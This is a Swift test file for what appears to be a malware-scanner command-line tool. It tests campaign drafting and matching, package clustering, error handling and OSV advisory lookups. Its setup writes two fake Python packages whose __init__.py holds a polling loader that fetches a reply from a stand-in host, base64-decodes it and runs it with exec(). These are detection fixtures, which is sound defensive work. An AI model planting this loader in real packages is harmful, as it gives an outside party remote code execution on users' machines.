import Testing

/// Campaigns and clusters on the command line: a workshop's two packages, drafted, matched and grouped.
struct CampaignCommandTests {
  let place: Command.Workplace
  let sekisho: Command

  init() throws {
    place = try Command.Workplace()
    sekisho = place.command
    for (name, host) in [("first", "one.example.invalid"), ("second", "two.example.invalid")] {
      try place.write("Metadata-Version: 2.1\nName: \(name)\nVersion: 1.0\n", to: "\(name)/PKG-INFO")
      try place.write(
        """
        import base64, time, requests
        placeaddr = "https://\(host)/lantern7731.png"
        while True:
            try:
                bstrreply = requests.get(placeaddr, headers={"X-Quiet": "yes", "Pragma": "no-cache"}).text
                cutplace = bstrreply.find("|")
                if cutplace > 0:
                    exec(base64.b64decode(bstrreply[cutplace + 1:]).decode("ascii"))
            except Exception:
                pass
            time.sleep(45)
        """, to: "\(name)/\(name)/__init__.py")
    }
    try place.write("VALUE = 1\n", to: "plain/plain.py")
  }

  @Test func aDraftOfOnePackageFindsTheNext() throws {
    try place.write(try sekisho("campaign", "propose", "--name", "Lantern", "first").output, to: "own/lantern.md")
    let found = try sekisho.shell("sekisho campaign match second --knowledge-only own --no-indicators")
    #expect(found.status == 1)
    #expect(found.output.hasPrefix("second 1.0: same-cluster-as Lantern"))
    let other = try sekisho.shell("sekisho campaign match plain --knowledge-only own")
    #expect(other.status == 0)
    let shown = try sekisho.shell("sekisho campaign show lantern --knowledge own")
    #expect(shown.status == 0 && shown.output.hasPrefix("Lantern (imitations)"))
    let report = try sekisho.shell("sekisho scan second --knowledge own --format json --fail-on never")
    let links = try StrictJSON(Array(report.output.utf8))["links"]?.elements ?? []
    #expect(links.contains { $0["target"]?.text == "campaign:lantern" })
  }

  @Test func packagesOfOneWorkshopAreGrouped() throws {
    let outcome = try sekisho("cluster", "first", "plain", "second")
    #expect(outcome.status == 0)
    #expect(outcome.output.contains("cluster 1: 2 packages\n  first 1.0\n  second 1.0\n"))
    let picture = try sekisho("cluster", "--format", "svg", "first", "second")
    #expect(picture.output.hasPrefix("<svg") && picture.output.contains("<line"))
  }

  @Test func whatCannotBeReadIsNoAnswer() throws {
    for command in ["campaign match missing", "cluster first missing"] {
      let outcome = try sekisho.shell("sekisho \(command)")
      #expect(outcome.status == 3, "\(command): \(outcome.errors)")
      #expect(outcome.errors.contains("missing: Could not be read"))
    }
  }

  @Test func aBrokenPageStopsTheRunAndIsNamed() throws {
    try place.write("---\nname: X\n---\n", to: "broken/x.md")
    for (arguments, place) in [
      ("--knowledge broken", "x.md:2: the campaign has no 'firstSeen'"),
      ("--knowledge-only missing", "missing: the campaign pages in it cannot be read"),
      ("--knowledge broken --knowledge-only broken", "give one"),
    ] {
      let outcome = try sekisho.shell("sekisho scan plain \(arguments)")
      #expect(outcome.status == 2 && outcome.output.isEmpty)
      #expect(outcome.errors.contains(place), "\(arguments): \(outcome.errors)")
    }
  }

  /// A digest of OSV records says of a version what its advisory says, and nothing of one that was withdrawn.
  @Test func knownPackagesAreFound() throws {
    for (name, withdrawn) in [("first", ""), ("plain", ", \"withdrawn\": \"2024-02-01T00:00:00Z\"")] {
      try place.write(
        """
        {"schema_version": "1.5.0", "id": "MAL-0000-\(name)", "modified": "2024-02-01T00:00:00Z"\(withdrawn),
        "published": "2024-01-01T00:00:00Z", "affected": [{"package": {"ecosystem": "PyPI", "name": "\(name)"}, "versions": ["1.0"]}]}
        """, to: "advisories/\(name).json")
    }
    try place.write("Metadata-Version: 2.1\nName: plain\nVersion: 1.0\n", to: "plain/PKG-INFO")
    #expect(try sekisho("known", "build", "known.index", "advisories").status == 0)
    let found = try sekisho.shell("sekisho scan first plain --known known.index --fail-on never")
    #expect(found.output.contains("known/MAL-0000-first"))
    #expect(!found.output.contains("MAL-0000-plain"))
    let cut = try sekisho.shell("head -c 40 known.index > cut.index; sekisho scan plain --known cut.index")
    #expect(cut.status == 2 && cut.errors.contains("cut.index"))
  }
}
